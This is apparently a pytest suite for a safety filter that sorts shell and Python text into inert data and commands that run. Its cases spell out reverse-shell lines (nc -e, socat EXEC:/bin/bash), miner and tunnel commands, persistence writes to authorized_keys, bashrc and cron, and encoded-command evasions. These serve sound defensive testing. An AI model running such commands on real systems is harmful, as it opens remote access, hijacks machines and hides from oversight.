"""Parsers say what is data (issue 8): `Result.data_spans` cover text in an action that never runs
(comments, heredocs fed to `cat`, `echo` text, commit messages, patterns, Python strings that reach
no sink, `--help` calls), and never the same words when they do run."""
from __future__ import annotations

import pytest
import yaml
from hypothesis import given, settings, strategies as st

from safefilter.events import Exec, FileWrite, Origin, events_of_python, events_of_shell
from safefilter.events.informational import informational, load_tables, text_argument_indices

O = Origin(3, "c1", "arguments.command")


def data(text: str, *, python: bool = False, offset: int = 0) -> list[str]:
    """The texts of the data spans (Source coordinates are checked against the field)."""
    origin = Origin(3, "c1", "arguments.command", offset)
    result = (events_of_python if python else events_of_shell)(text, origin=origin)
    assert result.parsed, result.reasons
    field = " " * offset + text
    return [field[a:b] for a, b in result.data_spans]


def masked(text: str, needle: str, *, python: bool = False) -> bool:
    """True when every occurrence of `needle` lies inside a data span."""
    result = (events_of_python if python else events_of_shell)(text, origin=O)
    starts = [i for i in range(len(text)) if text.startswith(needle, i)]
    assert starts, "needle not in text"
    return all(any(a <= s and s + len(needle) <= b for a, b in result.data_spans) for s in starts)


# ---- shell: each data form, and its twin where the same words run ---------------------------

SHELL_CASES = [
    # (data form, needle, twin that runs the needle)
    ("ls  # ssh -R 9000:localhost:22 u@203.0.113.5", "ssh -R 9000",
     "ls; ssh -R 9000:localhost:22 u@203.0.113.5"),
    ("cat > docs/tunnels.md <<'EOF'\nssh -R 8080:localhost:80 u@host\nEOF\n", "ssh -R 8080",
     "bash <<'EOF'\nssh -R 8080:localhost:80 u@host\nEOF\n"),
    ("cat <<EOF\nnmap -sS 10.0.0.0/24\nEOF\n", "nmap -sS",
     "cat <<EOF | sh\nnmap -sS 10.0.0.0/24\nEOF\n"),
    ("tee docs/notes.md <<< 'xmrig -o pool:3333'", "xmrig -o",
     "bash <<< 'xmrig -o pool:3333'"),
    ('echo "to tunnel run: ssh -R 80:localhost:8080 serveo.net"', "ssh -R 80",
     "sh -c 'ssh -R 80:localhost:8080 serveo.net'"),
    ("echo 'nmap -sS 10.0.0.1' > tests/fixtures/scan.txt", "nmap -sS",
     "echo 'nmap -sS 10.0.0.1' | bash"),
    ("printf '%s\\n' 'xmrig -o stratum+tcp://pool:3333' > tests/fixtures/cmd.txt", "xmrig -o",
     "printf '%s\\n' 'xmrig -o stratum+tcp://pool:3333' | sh"),
    ("echo 'nmap -sS 10.0.0.1' | grep nmap", "nmap -sS",
     "echo 'nmap -sS 10.0.0.1' | grep nmap | sh"),
    ("git commit -m 'wrap nmap -sS for the scanner tests'", "nmap -sS",
     "git commit -m x && nmap -sS 10.0.0.1"),
    ("git commit -am 'doc: ssh -R forwarding'", "ssh -R",
     "git commit -am x; ssh -R 1:a:2 h"),
    ("git commit -q -m 'docs: why `socat TCP:198.51.100.12:4444 EXEC:/bin/bash` is blocked'", "socat",
     "git commit -q -m \"docs: `socat TCP:198.51.100.12:4444 EXEC:/bin/bash`\""),
    ("git commit -m \"$(cat <<'EOF'\nDocument ssh -R 9000:localhost:22 usage\nEOF\n)\"", "ssh -R 9000",
     "git commit -m \"$(ssh -R 9000:localhost:22 h)\""),
    ("git commit -F - <<EOF\nnmap wrapper\nEOF\n", "nmap wrapper",
     "bash - <<EOF\nnmap wrapper\nEOF\n"),
    ("gh pr create --title 'Add xmrig detector' --body 'flags xmrig -o pool'", "xmrig -o",
     "gh pr create --title t --body b; xmrig -o pool"),
    ("jq '.tunnels[] | .ssh_R' config.json", "ssh_R",
     "ssh_R=1; echo $ssh_R | sh"),
    (": 'nc -e /bin/sh 203.0.113.5 4444'", "nc -e",
     "eval 'nc -e /bin/sh 203.0.113.5 4444'"),
]


@pytest.mark.parametrize("text, needle, twin", SHELL_CASES)
def test_shell_data_form_is_masked_and_its_running_twin_is_not(text, needle, twin):
    assert masked(text, needle), data(text)
    assert not masked(twin, needle), data(twin)


@pytest.mark.parametrize("text, needle", [
    ("sed 's/x/id/e' f", "id"),                 # the e flag runs the pattern space
    ("sed '1e nmap -sS 10.0.0.1' f", "nmap"),   # the e command runs a command
    ("awk '{print | \"sh\"}' cmds.txt", "sh"),   # a pipe to a command
    ("find . -name x -exec nmap {} \\;", "nmap"),
    ('echo "$(nmap -sS 10.0.0.1)"', "nmap"),    # the substitution runs
    ("x=$(echo nmap); $x -sS 10.0.0.1", "nmap"),  # echo captured, then run
    ("cat <<EOF | kubectl apply -f -\nkind: Pod\nEOF\n", "kind: Pod"),
    ("ssh host <<'EOF'\nnmap -sS 10.0.0.1\nEOF\n", "nmap"),
    ("git commit -m \"$(cat <<EOF\n$(nmap x)\nEOF\n)\"", "nmap"),  # unquoted: the body expands
    ("cat <<EOF > notes.md\n$(nmap -sS 10.0.0.1)\nEOF\n", "nmap"),
    ("cat <<< \"$(nmap -sS 10.0.0.1)\"", "nmap"),
    ("which $(nmap -sS 10.0.0.1)", "nmap"),       # informational, but the substitution runs
    ("echo 'nmap -sS 10.0.0.1' > >(sh)", "nmap"),  # a process substitution runs the output
    ("echo 'nmap -sS 10.0.0.1' | tee >(sh)", "nmap"),
    ("while read c; do $c; done <<EOF\nnmap -sS 10.0.0.1\nEOF\n", "nmap"),
    # output redirected from a group or function: the file's content, with no span to un-mask
    ("{ echo '#!/bin/sh'; echo 'xmrig -o pool:3333'; } > run.sh", "xmrig"),
    ("gen() { echo 'nmap -sS 10.0.0.1'; }; gen > scan.sh", "nmap"),
    ("exec 3>scan.sh; echo 'nmap -sS 10.0.0.1' >&3", "nmap"),
    # written anywhere but a document or a fixture: something may load it (msfconsole -r, go run)
    ("echo 'run post/multi/gather/ping_sweep RHOSTS=10.9.9.0/24' > cmds.rc && msfconsole -r cmds.rc",
     "ping_sweep"),
    ("cat > main.go <<'EOF'\nnet.Dial(\"tcp\", \"198.51.100.1:4444\")\nEOF\n", "net.Dial"),
    # a file whose path is not known statically cannot be followed to what loads it
    ("TF=$(mktemp); echo 'os.execute(\"/bin/sh -i\")' > $TF; sudo nmap --script=$TF", "os.execute"),
    # writing a persistence file is itself the action (LABELING.md section 1)
    ("echo 'ssh-ed25519 AAAAC3Nz ops@laptop' >> ~/.ssh/authorized_keys", "ssh-ed25519"),
    ("cat >> ~/.bashrc <<'EOF'\nnohup ./xmrig &\nEOF\n", "xmrig"),
    ("echo '* * * * * root /tmp/.x/run' | sudo tee /etc/cron.d/sync", "/tmp/.x/run"),
])
def test_text_that_executes_is_not_data(text, needle):
    assert not masked(text, needle), data(text)


@pytest.mark.parametrize("text, needle", [
    ("grep -ri 'BEGIN RSA PRIVATE KEY' / 2>/dev/null", "PRIVATE KEY"),  # credential discovery
    ("ps aux | grep stratum | awk '{print $2}' | xargs kill -9", "stratum"),  # a miner hunt
    ("sed -i 's|^|ssh -R 9000:localhost:22 h |' ~/.profile", "ssh -R"),  # sed -i writes it
    ("rg -n 'nc -e /bin/sh' docs/", "nc -e"),
])
def test_search_patterns_stay_action(text, needle):
    """What a search looks for is part of what it does; rules tell a repo search from a hunt
    (informational.yaml lists no grep/sed/awk text arguments)."""
    assert not masked(text, needle), data(text)


def test_written_content_spans_point_at_the_text_that_became_the_file():
    text = "cd /srv && cat > run.sh <<'EOF'\nnmap -sS 10.0.0.1\nEOF\n"
    result = events_of_shell(text, origin=Origin(3, "c1", "arguments.command", 7))
    w = next(e for e in result.events if isinstance(e, FileWrite))
    field = " " * 7 + text
    assert [field[a:b] for a, b in w.content_spans] == ["nmap -sS 10.0.0.1\n"]
    assert result.data_spans == ()  # a script: whether it runs is the flow's question
    doc = text.replace("run.sh", "docs/scan.md")
    result = events_of_shell(doc, origin=Origin(3, "c1", "arguments.command", 7))
    w = next(e for e in result.events if isinstance(e, FileWrite))
    assert w.content_spans and list(w.content_spans) == list(result.data_spans)  # a document
    tee = next(e for e in events_of_shell("echo 'ssh -R 1:a:2 h' | tee -a ~/.bashrc", origin=O).events
               if isinstance(e, FileWrite))
    assert tee.content_spans and tee.how == "tee"
    run = next(e for e in events_of_shell("echo 'nmap x' | bash > out.txt", origin=O).events
               if isinstance(e, FileWrite))
    assert run.content_spans == ()  # the file holds what bash printed, not the echo text
    head = next(e for e in events_of_shell("echo 'nmap x' | head -1 > run.sh", origin=O).events
                if isinstance(e, FileWrite))
    assert head.content_spans  # a filter's output is made of its input: un-masked if run.sh runs


def test_heredoc_fed_to_an_interpreter_is_parsed_with_exact_spans():
    text = "python3 - <<'EOF'\n# note: nmap\nimport os\nos.system('nmap -sS 10.0.0.1')\nEOF\n"
    result = events_of_shell(text, origin=O)
    nmap = next(e for e in result.events if isinstance(e, Exec) and e.name == "nmap")
    assert nmap.depth == 2 and nmap.source.decoded_from is not None  # os.system string: decoded
    assert masked(text, "# note: nmap") and not masked(text, "os.system")
    bash = events_of_shell("bash <<'EOF'\nssh -R 1:a:2 h\nEOF\n", origin=O)
    ssh = next(e for e in bash.events if isinstance(e, Exec) and e.name == "ssh")
    assert ssh.source.decoded_from is None  # a verbatim slice: the span is the line itself
    assert "bash <<'EOF'\nssh -R 1:a:2 h\nEOF\n"[ssh.source.start:ssh.source.end] == "ssh -R 1:a:2 h"


# ---- informational invocations ----------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "xmrig --help", "nmap --version", "chisel -h", "ngrok version", "ssh -V", "man nmap",
    "which xmrig", "tldr chisel", "apt-cache show nmap", "pip show paramiko", "xmrig --dry-run",
    "aws ec2 run-instances help", "kubectl run --help", "sudo masscan --version",
    "ngrok config check", "lolMiner --list-devices", "nmap --script-help ssl-enum-ciphers",
    "frpc verify -c ./frpc.toml", "cloudflared tunnel --help", "command -v rustscan",
])
def test_informational_calls_are_data_with_no_side_events(text):
    result = events_of_shell(text, origin=O)
    execs = [e for e in result.events if isinstance(e, Exec)]
    assert execs and execs[-1].informational
    assert [e.kind for e in result.events if e.kind not in ("exec", "privilege")] == []
    assert any(text.endswith(text[a:b]) and b - a >= len(text.split()[-1]) for a, b in result.data_spans)


@pytest.mark.parametrize("text", [
    "xmrig help",                       # xmrig ignores positionals: it mines with config.json
    "xmrig --bench=1M",                 # a benchmark hashes on this CPU: an action (requestable)
    "cpuminer --benchmark",
    "xmrig --dry-run -o stratum+tcp://pool:3333 -u WALLET",  # names a pool
    "nmap -sS 10.0.0.0/24 --help-me",
    "docker run -h box alpine",         # -h is the hostname here
    "chisel server -p 8000 --reverse",
    "kubectl run m --image=alpine -- xmrig --help",   # the pod runs; --help is the pod's
    "docker run --rm miner/xmrig --help",             # a container is started
])
def test_real_invocations_are_not_informational(text):
    result = events_of_shell(text, origin=O)
    first = next(e for e in result.events if isinstance(e, Exec))
    assert first.argv[0] == text.split()[0] and not first.informational
    assert result.data_spans == ()


def test_informational_scope_is_one_command():
    text = "nmap --version && nmap -sS 10.0.0.0/24"
    assert data(text) == ["nmap --version"]
    execs = [e for e in events_of_shell(text, origin=O).events if isinstance(e, Exec)]
    assert [e.informational for e in execs] == [True, False]


def test_informational_table_loads_and_rejects_unknown_keys():
    from pathlib import Path

    raw = yaml.safe_load(Path("safefilter/events/informational.yaml").read_text())
    tables = load_tables(raw)
    assert "--help" in tables.only_flags and "cat" in tables.text_filters
    assert "bash" not in tables.text_filters and "sh" not in tables.text_filters
    with pytest.raises(ValueError, match="unknown key"):
        load_tables({**raw, "informatonal": {}})
    with pytest.raises(ValueError, match="unknown check"):
        load_tables({"text_arguments": [{"program": ["x"], "check": "perl"}]})
    assert informational("pip", ("pip", "install", "x")) is None
    assert text_argument_indices("git", ("git", "-C", "repo", "commit", "-m", "msg")) == [5]
    assert text_argument_indices("jq", ("jq", "--arg", "k", "v", ".x", "f.json")) == [4]
    assert text_argument_indices("gh", ("gh", "pr", "create", "-t", "T", "--body=B")) == [4, 5]


# ---- Python -------------------------------------------------------------------------------------

PY_CASES = [
    ("import os\n# os.system('nmap -sS 10.0.0.1')\n", "nmap -sS",
     "import os\nos.system('nmap -sS 10.0.0.1')\n"),
    ('def scan():\n    """Runs nmap -sS against the lab."""\n    return 1\n', "nmap -sS",
     "import os\ndef scan():\n    os.system('nmap -sS 10.0.0.1')\nscan()\n"),
    ("print('usage: ssh -R 9000:localhost:22 host')\n", "ssh -R",
     "import subprocess\nsubprocess.run('ssh -R 9000:localhost:22 host', shell=True)\n"),
    ("import logging\nlogging.info('xmrig -o pool started')\n", "xmrig -o",
     "import os\nos.popen('xmrig -o pool')\n"),
    ("cmd = 'xmrig -o pool'\nassert cmd != 'xmrig -o pool'\n", "xmrig -o",
     "import os\ncmd = 'xmrig -o pool'\nos.system(cmd)\n"),
    ("import re\nPAT = re.compile(r'nmap\\s+-sS')\n", "nmap",
     "import os\nPAT = 'nmap -sS x'\nos.system(PAT)\n"),
    ("import json\njson.dumps({'cmd': 'nc -e /bin/sh h 4444'})\n", "nc -e",
     "import subprocess, shlex\ncmd = 'nc -e /bin/sh h 4444'\nsubprocess.run(shlex.split(cmd))\n"),
    ("BAD = ['ssh -R', 'nc -e', 'xmrig']\nprint(len(BAD))\n", "nc -e",
     "import os\nBAD = ['nc -e /bin/sh h 1']\nfor c in BAD:\n    os.system(c)\n"),
    ("import pytest\n@pytest.mark.parametrize('cmd', ['nmap -sS 10.0.0.1'])\ndef test_x(cmd):\n    pass\n",
     "nmap -sS", "import os\ndef run(cmd):\n    os.system(cmd)\nrun('nmap -sS 10.0.0.1')\n"),
    ("decoded = 'pmt/ e- cn'[::-1]\nprint(repr(decoded))\n", "pmt/ e- cn",
     "import os\ndecoded = 'pmt/ e- cn'[::-1]\nos.system(decoded)\n"),
    ("import base64\nprint(base64.b64decode('bm1hcCAtc1M=').decode())\n", "bm1hcCAtc1M=",
     "import base64, os\nos.system(base64.b64decode('bm1hcCAtc1M=').decode())\n"),
    ("name = 'scan'\nif name.startswith('nmap -sS'):\n    pass\n", "nmap -sS",
     "import os\nos.system('nmap -sS x'.strip())\n"),
]


@pytest.mark.parametrize("text, needle, twin", PY_CASES)
def test_python_data_form_is_masked_and_its_running_twin_is_not(text, needle, twin):
    assert masked(text, needle, python=True), data(text, python=True)
    assert not masked(twin, needle, python=True), data(twin, python=True)


@pytest.mark.parametrize("text, needle", [
    ("def helper(x):\n    return x\nhelper('nmap -sS 10.0.0.1')\n", "nmap"),   # unknown effect
    ("from tools import detect\ndetect('xmrig -o pool')\n", "xmrig"),            # imported: unknown
    ("cmd = f'nmap {host}'\nprint(cmd)\nexec(cmd)\n", "nmap"),                   # also exec'd
    ("print(f\"{__import__('os').system('nmap x')}\")\n", "nmap"),               # call inside
    ("x = 'nmap'\ndef f():\n    return x\n", "nmap"),                            # returned
])
def test_python_literals_with_an_unknown_fate_are_not_data(text, needle):
    assert not masked(text, needle, python=True), data(text, python=True)


def test_python_file_content_is_data_with_content_spans_unless_it_installs_persistence():
    text = ("from pathlib import Path\np = Path('docs/VERSIONS.md').expanduser()\n"
            "p.parent.mkdir(parents=True, exist_ok=True)\np.write_text('| cloudflared | 2024.1 |')\n")
    result = events_of_python(text, origin=O)
    w = next(e for e in result.events if isinstance(e, FileWrite))
    assert w.path == "docs/VERSIONS.md" and masked(text, "cloudflared", python=True)
    assert [text[a:b] for a, b in w.content_spans] == ["'| cloudflared | 2024.1 |'"]
    rc = "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('nohup ./xmrig &')\n"
    assert not masked(rc, "xmrig", python=True)  # writing an rc file is the action
    piped = "import subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE, text=True)\np.stdin.write('nmap -sS 10.0.0.1')\n"
    assert not masked(piped, "nmap", python=True)  # a process's stdin is not a file


def test_python_c_inside_shell_maps_data_spans_to_the_command():
    text = "python3 -c 'print(\"nmap done\")  # ok'"
    assert masked(text, "nmap done") and masked(text, "# ok")
    assert not masked("python3 -c 'import os; os.system(\"nmap x\")'", "nmap")


@pytest.mark.parametrize("text", [
    "python3 -c 'print(\"nmap -sS 10.0.0.1\")' | sh",           # printed into a shell
    "python3 -c 'print(\"nmap -sS 10.0.0.1\")' > scan.sh",      # printed into a file
    "eval \"$(python3 -c 'print(\\\"nmap -sS 10.0.0.1\\\")')\"",  # captured, then run
    "python3 - <<'EOF' | bash\nprint('nmap -sS 10.0.0.1')\nEOF\n",
    "bash -c 'echo nmap -sS 10.0.0.1' > scan.sh",
])
def test_printed_text_that_is_run_or_written_is_not_data(text):
    assert not masked(text, "nmap"), data(text)


# ---- properties ---------------------------------------------------------------------------------

def _check_spans(text: str, result, offset: int) -> None:
    spans = list(result.data_spans)
    assert spans == sorted(spans)
    for (_, b), (c, _) in zip(spans, spans[1:]):
        assert b < c  # non-overlapping (touching spans are merged)
    for a, b in spans:
        assert offset <= a < b <= offset + len(text)
    if not result.parsed:
        assert spans == []


_SHELLISH = st.text(alphabet=st.sampled_from(list("ab #'\"$(){}<>|&;\\\n=-echo catEOFgit")),
                    max_size=80)


@settings(max_examples=100, deadline=None)
@given(_SHELLISH, st.integers(0, 50))
def test_shell_data_spans_are_sorted_disjoint_and_inside(text, offset):
    result = events_of_shell(text, origin=Origin(0, None, "f", offset))
    _check_spans(text, result, offset)


_PYISH = st.lists(st.sampled_from(list("abx =()'\"#\n:.,[]fr\\") + ["print", "os.system",
                                                                     "import os\n", '"""']),
                  max_size=40).map("".join)


@settings(max_examples=100, deadline=None)
@given(_PYISH, st.integers(0, 50))
def test_python_data_spans_are_sorted_disjoint_and_inside(text, offset):
    result = events_of_python(text, origin=Origin(0, None, "f", offset))
    _check_spans(text, result, offset)


def test_unparsed_text_has_no_data_spans():
    result = events_of_shell("echo 'unterminated # x", origin=O)
    assert not result.parsed and result.data_spans == ()
    result = events_of_python("print('x'  # (", origin=O)
    assert not result.parsed and result.data_spans == ()
